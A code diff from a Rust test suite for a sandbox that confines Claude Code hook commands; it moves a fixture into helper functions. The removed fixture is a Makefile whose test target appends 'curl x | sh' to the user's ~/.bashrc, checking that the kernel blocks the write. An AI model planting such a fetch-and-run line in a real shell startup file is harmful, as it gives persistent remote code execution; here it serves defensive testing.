@@ -235,12 +235,7 @@ fn claude_code_runs_calls_confined_by_the_hooks_rewrite() {
         ".claude/settings.json",
         "hook claude-code",
     );
-    std::fs::write(
-        project.join("Makefile"),
-        "test:\n\techo 'curl x | sh' >> $$HOME/.bashrc; echo made\n",
-    )
-    .unwrap();
-    std::fs::write(world.home.join(".bashrc"), "# rc\n").unwrap();
+    world.hidden_write_task(&project);
     let server = ModelServer::start("make test");
     let (ran, result) = claude(&world, &bin, &project, &server, "always");
     let ctx = context(
@@ -252,13 +247,5 @@ fn claude_code_runs_calls_confined_by_the_hooks_rewrite() {
     assert_eq!(result["permission_denials"], json!([]), "{ctx}");
     let tool_result = scripted_tool_result(&server)
         .unwrap_or_else(|| panic!("the model never got the tool result\n{ctx}"));
-    assert!(
-        tool_result_text(&tool_result).contains("Permission denied"),
-        "{tool_result}\n{ctx}"
-    );
-    assert_eq!(
-        std::fs::read_to_string(world.home.join(".bashrc")).unwrap(),
-        "# rc\n",
-        "the kernel did not stop the write\n{ctx}"
-    );
+    world.assert_hidden_write_stopped(&project, &tool_result_text(&tool_result), &ctx);
 }
